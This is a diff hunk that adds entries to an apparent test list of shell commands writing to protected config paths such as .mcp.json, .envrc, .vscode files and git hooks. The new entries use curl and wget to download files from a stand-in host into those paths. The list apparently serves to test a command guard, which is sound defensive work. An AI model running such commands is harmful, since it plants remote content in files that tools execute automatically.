@@ -42,6 +42,7 @@ PROTECTED = [
     "echo x > .mcp.json", "echo x >> .vscode/settings.json", "rm .mcp.json", "patch .mcp.json fix.diff", "vim .envrc",
     "install -m 644 x .vscode/tasks.json", "env touch .mcp.json", "timeout 5 touch .mcp.json", "yq -i .a=1 .mcp.json",
     "go build -o .git/hooks/pre-commit .", "docker build --output=.vscode .", "cargo build --target-dir .vscode",
+    "curl -O https://x.example/.mcp.json", "wget https://x.example/a/.envrc?x", "wget -P .vscode https://x.example/a",
     "find . -name x -fprint .mcp.json", "tar xf a.tar -C .vscode", "unzip a.zip -d .vscode", "touch ./src/../.mcp.json",
     "cd src && touch ../.mcp.json", "frobnicate --out=.mcp.json", "gzip .mcp.json", "uniq a .mcp.json",
 ]  # fmt: skip
